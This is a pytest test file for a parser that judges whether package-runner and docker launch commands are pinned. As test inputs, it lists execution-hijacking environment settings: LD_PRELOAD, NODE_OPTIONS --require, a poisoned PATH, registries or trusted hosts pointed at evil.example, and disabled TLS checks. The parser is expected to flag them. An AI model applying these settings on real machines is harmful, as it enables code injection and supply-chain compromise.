        ("uvx x", {"UV_EXTRA_INDEX_URL": "https://u:secret@e.example"}),
        ("uvx x", {"PIP_EXTRA_INDEX_URL": "https://e.example https://e.example/"}),
        ("uvx x", {"PIP_INDEX_URL": "https://e.example"}),
        ("pipx run x", {"UV_INDEX_URL": "https://e.example"}),
        ("pipx run --pip-args '--extra-index-url https://e.example' x", {}),
    ],
)
def test_names_further_indexes_apart(line: str, env: dict[str, str]) -> None:
    found = main(line, **env)
    assert (found.registry, found.extra_registries) == (None, ("https://e.example",))


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("npx files@1.2.0", "npm_config_registry"),
        ("npx files@1.2.0", "npm_config_@acme:registry"),
        ("uvx x==1.2", "UV_INDEX_URL"),
    ],
)
def test_a_registry_that_cannot_be_read_makes_it_undecidable(
    line: str, name: str
) -> None:
    launch = read(line, **{name: "${input:secret}"})
    assert said(launch) == ("None", "undecidable")
    assert "secret" not in repr(launch)


LINES = [
    "npx files@1.2.0",
    "uvx x==1.2",
    "pipx run x==1.2",
    "python srv.py",
    "./bin/server",
    f"docker run -e TOKEN img@{DIGEST}",
    "docker run img:1 npx files@1.2.0",
    "env A=b npx files@1.2.0",
]


@pytest.mark.parametrize("line", LINES)
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("NODE_OPTIONS", "--require ./secret.js"),
        ("NODE_OPTIONS", "--max-old-space-size=4096 --import=secret"),
        ("PATH", "/secret:/usr/bin"),
        ("PATH", "./secret"),
        ("Path", "${env:PATH}"),
        ("PATH", "/usr/bin/../../tmp"),
        ("LD_PRELOAD", "secret"),
        ("LD_LIBRARY_PATH", "secret"),
        ("DYLD_INSERT_LIBRARIES", "secret"),
        ("BASH_ENV", "secret"),
        ("BASH_FUNC_x%%", "secret"),
        ("ENV", "./secret"),
        ("PYTHONPATH", "secret"),
        ("PYTHONHOME", "secret"),
        ("PYTHONSTARTUP", "secret"),
        ("HOME", "secret"),
        ("XDG_CONFIG_HOME", "secret"),
        ("npm_config_prefix", "secret"),
        ("npm_config_proxy", "http://secret.example"),
        ("npm_config_https-proxy", "http://secret.example"),
        ("NPM_CONFIG_STRICT_SSL", "false"),
        ("npm_config_package", "secret"),
        ("NPM_CONFIG_CALL", "secret"),
        ("npm_config_userconfig", "secret"),
        ("npm_config_globalconfig", "secret"),
        ("npm_config_script-shell", "secret"),
        ("npm_config_node_options", "secret"),
        ("npm_config_cache", "secret"),
        ("pnpm_config_dir", "secret"),
        ("NODE_EXTRA_CA_CERTS", "secret"),
        ("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
        ("SSL_CERT_FILE", "secret"),
        ("UV_PYTHON", "/secret"),
        ("UV_CONSTRAINT", "secret"),
        ("UV_OVERRIDE", "secret"),
        ("UV_CONFIG_FILE", "secret"),
        ("UV_INSECURE_HOST", "evil.example"),
        ("PIP_CONFIG_FILE", "secret"),
        ("PIP_TRUSTED_HOST", "evil.example"),
        ("PIPX_DEFAULT_PYTHON", "secret"),
        ("YARN_YARN_PATH", "secret"),
        ("BUN_CONFIG_LINK", "secret"),
        ("BUN_OPTIONS", "secret"),
        ("COREPACK_NPM_REGISTRY", "https://evil.example"),
        ("TS_NODE_COMPILER", "secret"),
        ("GIT_SSH_COMMAND", "secret"),
        ("OPENSSL_CONF", "secret"),
    ],
)
def test_a_variable_that_changes_what_runs_makes_any_command_undecidable(
    line: str, name: str, value: str
) -> None:
    launch = read(line, **{name: value})
    assert said(launch) == ("None", "undecidable")
    assert name in launch.problem
    assert "secret" not in repr(launch)


@pytest.mark.parametrize(
    "line",
    [
        f"docker run -e LD_PRELOAD=secret img@{DIGEST}",
        f"docker run -e PATH img@{DIGEST} serve",
        "env NODE_OPTIONS=-rsecret npx files@1.2.0",
        "sh -c 'PATH=./secret npx files@1.2.0'",
    ],
)
def test_a_variable_in_the_command_counts_as_well(line: str) -> None:
    assert said(read(line)) == ("None", "undecidable")


@pytest.mark.parametrize("name", ["DOCKER_HOST", "docker_context", "CONTAINER_HOST"])
def test_a_variable_may_choose_the_machine_of_a_container(name: str) -> None:
    launch = read(f"docker run img@{DIGEST}", **{name: "tcp://evil.example"})
    assert said(launch) == ("None", "undecidable")
    assert read("npx files@1.2.0", **{name: "x"}).pin is Pin.EXACT


@pytest.mark.parametrize("line", LINES)
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("API_KEY", "secret"),
        ("GITHUB_PERSONAL_ACCESS_TOKEN", "secret"),
        ("NODE_ENV", "production"),
        ("ENV", "production"),
        ("NODE_OPTIONS", "--max-old-space-size=4096 --no-warnings"),
        ("PATH", "/usr/local/bin:/usr/bin:/bin"),
        ("PATH", "/Users/me/.nvm/versions/node/v20.1.0/bin:/opt/homebrew/bin"),
        ("Path", "C:\\Program Files\\nodejs;C:\\Windows\\System32"),
        ("PYTHONUNBUFFERED", "1"),
        ("PYTHON_VERSION", "3.12"),
        ("npm_config_loglevel", "silent"),
        ("npm_config_update-notifier", "false"),
        ("npm_config_//h.example/:_authToken", "secret"),
        ("UV_NO_PROGRESS", "1"),
        ("UV_INDEX_ACME_PASSWORD", "secret"),
        ("PIP_NO_CACHE_DIR", "1"),
        ("HTTPS_PROXY", "http://proxy.example:3128"),
        ("DATABASE_URL", "postgres://u:secret@h.example/db"),
        ("PYTHONIOENCODING", "utf-8"),
    ],
)
def test_ordinary_variables_change_nothing(line: str, name: str, value: str) -> None:
    assert read(line, **{name: value}) == read(line)


@pytest.mark.parametrize(
    "line",
    [
        "npx -y @scope/name@1.2.3 arg /some/path",
        "npx -y @scope/name@1.2.3 /home/me/npx /home/me/node_modules /opt/python/x",
        "npx -y @scope/name@1.2.3 start --language python --port 1 --runtime node",
        "npx -y @scope/name@1.2.3 serve exec go /data",
        "npx -y @scope/name@1.2.3 --language go --docs java",
        "uvx name==1.2.3 --repository .",
        "uvx -p 3.12 name==1.2.3 --db-path ~/x.db",
        "uvx --python cpython3.12 name==1.2.3",
        f"docker run -i --rm -e TOKEN image@{DIGEST}",
        f"docker run -i --rm -v /home/me/data:/data image@{DIGEST} /data",
        f"docker run --mount type=bind,src=/home/me,dst=/projects image@{DIGEST}",
        f"docker run -v memory:/app/dist --entrypoint node image@{DIGEST} /app/x.js",
        "docker run -v C:\\Users:/data -v memory image:1",
        "python -m package_in_the_tree --port 1",
        "python3 -u -m package.module",
        "node ./server.js /srv/data",
        "python server.py --env prod",
        "npx -y mcp-remote@0.1.16 https://h.example/mcp --transport http-only",
        "/usr/bin/env npx -y files@1.2.3",
        "uv run server.py",
    ],
)
def test_ordinary_servers_are_decidable(line: str) -> None:
    assert read(line.replace("\\", "/")).problem == ""


def test_other_variables_change_nothing() -> None:
    assert read("npx files@1.2.0", OTHER="secret") == read("npx files@1.2.0")


def test_an_alias_keeps_the_name_that_it_is_called_by() -> None:
    assert main("npx x@npm:real@1.0.0").alias == "x"
    assert main("npx x@npm:x@1.0.0").alias == ""


def test_what_is_asked_for_is_kept_where_it_is_no_version() -> None:
    assert main("npx files@^1").requested == "^1"
    assert read("npx files@1.2.0").version == "1.2.0"
    assert read("npx files@^1").version is None
    assert main("uvx 'x>=1'").requested == ">=1"
    assert read("docker run img:3").requested == "3"
    assert read("npx files@1.2.0").requested == ""


@pytest.mark.parametrize(
    ("line", "endpoint"),
    [
        ("npx -y mcp-remote@0.1.16 https://u:secret@h.example/mcp?t=secret --header x",
         "https://h.example/mcp"),
        ("npx supergateway --sse https://h.example/sse", "https://h.example/sse"),
        ("uvx mcp-proxy http://h.example/sse", "http://h.example/sse"),
        ("npx -p mcp-remote mcp-remote https://h.example/x", "https://h.example/x"),
        ("npx files https://h.example/x", None),
    ],
)  # fmt: skip
def test_a_bridge_tells_what_it_connects_to(line: str, endpoint: str | None) -> None:
    launch = read(line)
    assert launch.main is not None
    assert launch.endpoint == endpoint
    assert "secret" not in repr(launch)


def test_a_digest_is_kept_as_one() -> None:
    digest = main(f"docker run img@{DIGEST}").digest
    assert str(digest) == DIGEST


def test_a_package_past_the_registry_says_so() -> None:
    assert main("npx o/r").origin is Origin.VCS
    assert main("npx https://h.example/x.tgz").origin is Origin.URL
    assert main("npx files").origin is Origin.REGISTRY


WORDS = st.sampled_from(
    [
        *("npx", "uvx", "uv", "run", "tool", "docker", "sh", "-c", "-p", "--package"),
        *("--from", "--with", "-y", "--", "files@1.2.0", "x==1", "python", "-m", "env"),
        *("A=b", "img:1", "npm", "exec", "https://h.example/x", "o/r", "cmd", "/c"),
        *("node", "server.js", "pipx", "--spec", "-e", "K=v", "mcp-remote", "-i"),
        *("deno", "npm:files@1.2.0", "dnx", "--version", "1.2.0", "go", "java", "-jar"),
        *("jbang", "a.b:c:1.0", "powershell", "-Command", "supergateway", "--stdio"),
        *("mcp-proxy", "mcpo", "fastmcp", "bun", "x.ts", "--no-install", "doppler"),
    ]
)


@given(st.lists(WORDS | st.text(max_size=6), min_size=1, max_size=8))
def test_any_command_is_decided_or_not_but_never_both(words: list[str]) -> None:
    launch = read_launch(words[0], words[1:], {})
    assert (launch.pin is None) == bool(launch.problem)
    assert launch.main is None or launch.main in launch.packages
    assert all(each.purl for each in launch.packages)
    named = [each.pin for each in launch.packages if not each.beside]
    firm = launch.pin is not None and not launch.pin.moves
    assert not (firm and any(pin.moves for pin in named))


@given(st.lists(WORDS, max_size=5), st.sampled_from(["evil", "evil@latest"]))
def test_options_before_a_floating_package_never_make_it_exact(
    words: list[str], package: str
) -> None:
    launch = read_launch("npx", [*words, f"--package={package}", "--", "x"], {})
    names = {each.name for each in launch.packages}
    if "evil" in names and launch.main and launch.main.name == "evil":
        assert launch.pin is Pin.FLOATING
